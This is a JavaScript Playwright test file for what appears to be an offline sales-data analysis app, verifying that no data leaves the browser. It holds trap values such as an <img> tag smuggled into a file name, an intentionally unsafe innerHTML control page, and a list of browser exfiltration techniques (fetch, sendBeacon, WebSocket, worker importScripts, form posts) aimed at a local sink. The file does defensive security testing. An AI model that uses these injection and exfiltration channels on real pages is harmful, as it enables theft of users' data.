import assert from 'node:assert/strict';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { pathToFileURL } from 'node:url';
import { toCsv } from './csv.mjs';
import { isoDay } from './files.mjs';
import { answered, drop, goTo, list, listed, saved, seen, until } from './reader.mjs';
import { canaries, openSink } from './sink.mjs';
import { WAYS, useStage } from './stage.mjs';

/** @import {BrowserContext, Page} from 'playwright-core' */
/** @import {Way} from './stage.mjs' */
/** @import {Sink} from './sink.mjs' */

const stage = useStage();

/** @type {Sink} */
let sink;
before(async () => { sink = await openSink(); });
after(() => sink.close());

/**
 * A sales file full of traps: in the names of customers, items, branches and
 * columns, in rows that can't be used, in the name of the file.
 * @param {string[]} names
 */
async function trapFile(names) {
    const trap = (/** @type {number} */ at) => names[at % names.length] ?? '';
    const rows = names.flatMap((name, at) => [0, 31, 59, 90, 120, 150].map((day, time) =>
        [isoDay(day + at), name, 100 * (at + 1) + time, trap(at + time), trap(at % 2), trap(2 + (at % 2)), '']));
    const unusable = names.map(name => [name, name, name, name, name, name, name]);
    const path = join(stage.folder, `<img src=http:127.0.0.1:${sink.port}>.csv`);
    await writeFile(path, toCsv([['Date', 'Customer', 'Amount', 'Product', 'Region', 'Sales person', trap(0)], ...rows, ...unusable]));
    return path;
}

/**
 * Whatever a page does that could carry something away.
 * @param {BrowserContext} context
 * @param {Page} page
 */
function watch(context, page) {
    /** @type {string[]} */
    const seen = [];
    const own = page.url().replace(/#.*/, '');
    context.on('request', request => {
        if (!/^(blob|data):/.test(request.url())) seen.push(`request of ${request.url()}`);
    });
    context.on('page', () => seen.push('a new page'));
    page.on('websocket', socket => seen.push(`socket to ${socket.url()}`));
    page.on('framenavigated', frame => {
        if (frame.url().replace(/#.*/, '') !== own) seen.push(`navigation to ${frame.url()}`);
    });
    page.on('dialog', dialog => {
        seen.push(`dialog ${dialog.message()}`);
        void dialog.dismiss();
    });
    return seen;
}

/**
 * A page that does what ours must not: it takes names for markup, and nothing holds it back.
 * @param {string[]} names
 */
async function controlPage(names) {
    const path = join(stage.folder, 'control.html');
    const data = JSON.stringify(names).replaceAll('<', '\\u003c');
    await writeFile(path, `<!doctype html><meta charset="utf-8"><ul></ul><script>
        document.querySelector('ul').innerHTML = ${data}.map(name => '<li>' + name + '</li>').join('');
    </script>`);
    return pathToFileURL(path).href;
}

for (const way of /** @type {Way[]} */ (['disk', 'server', 'folder'])) {
    test(`nothing leaves on a whole journey through a file full of traps, ${WAYS[way]}; a page without our locks is caught`, async t => {
        const names = canaries(sink.origin);
        const control = await stage.browser.newPage();
        t.after(() => control.close());
        sink.forget();
        const from = performance.now();
        await control.goto(await controlPage(names));
        const LEAKS = ['/iframe', '/img', '/import', '/link', '/meta', '/onerror', '/poster', '/style', '/svg'];
        await until(() => LEAKS.every(path => sink.paths().includes(path)), 'the control page has leaked');
        const takes = performance.now() - from;
        assert.ok(sink.connections() > 0);
        await control.close();

        const page = await stage.visit(t, { way });
        const did = watch(page.context(), page);
        sink.forget();
        await journey(page, names, await trapFile(names));
        // As long again as the control page took to be caught.
        await page.waitForTimeout(Math.max(1000, takes));
        assert.deepEqual(did, []);
        assert.equal(sink.connections(), 0, `the sink was asked for ${sink.paths()}`);
    });
}

/**
 * Every screen with something of the file on it, and every way to take something out.
 * @param {Page} page
 * @param {string[]} names
 * @param {string} file
 */
async function journey(page, names, file) {
    await drop(page, [file]);
    await page.getByRole('heading', { level: 1, name: /Overview|Check the columns/ }).waitFor();
    if (await page.getByRole('button', { name: 'Analyse this file' }).isVisible()) await page.getByRole('button', { name: 'Analyse this file' }).click();
    await answered(page);
    await onlyText(page);
    await page.getByText('Show as table').click();
    await onlyText(page);

    await goTo(page, 'Customers');
    const shown = (await listed(page)).map(({ name }) => name);
    assert.deepEqual([...shown].sort(), [...names].sort(), 'every name is shown as it is written');
    await onlyText(page);
    await page.getByRole('searchbox').fill('<img');
    await page.getByRole('searchbox').fill('');
    await saved(page, () => page.getByRole('button', { name: /^Export/ }).click());

    for (const name of names) {
        await list(page).getByRole('link', { name, exact: true }).click();
        await page.getByRole('heading', { level: 2, name: /^Why/ }).waitFor();
        assert.ok((await page.locator('h1').innerText()).includes(name.replace(/\s+/g, ' ').trim()), name);
        await onlyText(page);
        await page.goBack();
        await seen(page, 'Customers');
    }

    await goTo(page, 'Problems');
    await page.getByRole('table', { name: 'Rows set aside' }).locator('code').first().waitFor();
    await onlyText(page);
    await saved(page, () => page.getByRole('button', { name: /^Download/ }).click());

    await goTo(page, 'Columns');
    await onlyText(page);
    await goTo(page, 'Overview');

    await page.keyboard.press(',');
    await page.getByRole('dialog', { name: 'Settings' }).waitFor();
    for (const summary of await page.getByRole('dialog').locator('summary').all()) await summary.click();
    await onlyText(page);
    await page.keyboard.press('Escape');

    await page.emulateMedia({ media: 'print' });
    await onlyText(page);
    await page.emulateMedia({ media: 'screen' });
    for (const screen of ['Losses', 'Profit', 'Forecast', 'Start']) await goTo(page, screen);
    await onlyText(page);
    await page.locator('aside .lock').click();
    await page.getByRole('heading', { name: 'How private is this?' }).waitFor();
    await page.keyboard.press('Escape');
}

/** No part of a name has become a part of the page. @param {Page} page */
async function onlyText(page) {
    const made = await page.evaluate(() => {
        const foreign = 'img, iframe, video, audio, object, embed, form, base, meta[http-equiv=refresh], body link, body style, svg image, [onerror], [onload], [ping]';
        const elements = Array.from(document.querySelectorAll(foreign), ({ outerHTML }) => outerHTML);
        const addresses = Array.from(document.querySelectorAll('a'), a => a.getAttribute('href') ?? '').filter(href => !href.startsWith('#'));
        return [...elements, ...addresses];
    });
    assert.deepEqual(made, []);
}

describe('What a script on the page could try, the browser refuses', () => {
    /**
     * Each way to reach an address, as an intruder would use it.
     * @type {Record<string, (url: string) => unknown>}
     */
    const TRIES = {
        'fetch': url => void fetch(url).catch(() => {}),
        'XMLHttpRequest': url => {
            const request = new XMLHttpRequest();
            request.open('GET', url);
            request.send();
        },
        'WebSocket': url => void new WebSocket(url.replace('http', 'ws')),
        'EventSource': url => void new EventSource(url),
        'sendBeacon': url => void navigator.sendBeacon(url, 'names'),
        'Image': url => { new Image().src = url; },
        'import': url => void import(url).catch(() => {}),
        'script': url => document.head.append(Object.assign(document.createElement('script'), { src: url })),
        'worker': url => void new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(url)}); try { importScripts(${JSON.stringify(url)}) } catch {}`]))),
        'stylesheet': url => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url })),
        'font': url => void new FontFace('intruder', `url(${url})`).load().catch(() => {}),
        'frame': url => document.body.append(Object.assign(document.createElement('iframe'), { src: url })),
        'video': url => document.body.append(Object.assign(document.createElement('video'), { src: url })),
        'object': url => document.body.append(Object.assign(document.createElement('object'), { data: url })),
        'form': url => {
            const form = Object.assign(document.createElement('form'), { action: url, method: 'post', target: 'elsewhere' });
            document.body.append(form);
            form.submit();
        },
        'markup': url => { document.body.insertAdjacentHTML('beforeend', `<img src="${url}">`); },
    };

    /**
     * For these Chromium, before it asks its rules, opens a connection to the host and
     * then says nothing on it. An address of an intruder's own making could so be
     * looked up; no request is made and nothing is sent.
     */
    const KNOCKS = ['frame', 'form'];

    test('and without its rules every one of them gets out', async t => {
        const unprotected = await stage.browser.newPage();
        t.after(() => unprotected.close());
        sink.forget();
        await unprotected.goto(await controlPage([]));
        for (const [what, attempt] of Object.entries(TRIES)) await unprotected.evaluate(attempt, `${sink.origin}/${what}`);
        await until(() => Object.keys(TRIES).every(what => sink.paths().includes(`/${what}`)), `every attempt has reached the sink, not only ${sink.paths()}`);
    });

    for (const way of /** @type {Way[]} */ (['disk', 'folder'])) {
        test(`${Object.keys(TRIES).join(', ')}: ${WAYS[way]}`, async t => {
            const page = await stage.visit(t, { way, complains: true });
            await page.evaluate(() => {
                /** @type {string[]} */
                const refusals = [];
                Object.assign(window, { refusals });
                addEventListener('securitypolicyviolation', event => refusals.push(event.effectiveDirective));
            });
            sink.forget();
            let knocks = 0;
            for (const [what, attempt] of Object.entries(TRIES)) {
                const refusals = await tried(page, what, attempt);
                assert.ok(refusals.length > 0, `the browser says that it refuses: ${what}`);
                if (KNOCKS.includes(what)) knocks += 1;
            }
            await page.waitForTimeout(500);
            assert.deepEqual(sink.paths(), []);
            assert.equal(sink.bytes(), 0);
            assert.ok(sink.connections() <= knocks, `${sink.connections()} connections`);
        });
    }

    /**
     * @param {Page} page
     * @param {string} what
     * @param {(url: string) => unknown} attempt
     * @returns {Promise<string[]>} what the browser's rules forbade
     */
    async function tried(page, what, attempt) {
        await page.evaluate(() => void (/** @type {{refusals: string[]}} */ (/** @type {unknown} */ (window)).refusals.length = 0));
        const thrown = await page.evaluate(attempt, `${sink.origin}/${what}`).then(() => [], error => [String(error)]);
        const heard = await page.evaluate(async () => {
            const { refusals } = /** @type {{refusals: string[]}} */ (/** @type {unknown} */ (window));
            for (let wait = 0; wait < 40 && !refusals.length; wait++) await new Promise(done => setTimeout(done, 25));
            return refusals;
        });
        return [...heard, ...thrown.filter(error => /Trusted|Content Security Policy/.test(error))];
    }
});

test('the page’s own self-check finds every attempt refused', async t => {
    const page = await stage.visit(t, { complains: true });
    await page.getByRole('button', { name: 'Run the self-check' }).click();
    const text = await page.getByText(/\d+ attempts, \d+ blocked by the browser/).innerText();
    const [, tries, refused] = /(\d+) attempts, (\d+) blocked/.exec(text) ?? [];
    assert.ok(Number(tries) >= 6);
    assert.equal(refused, tries);
});
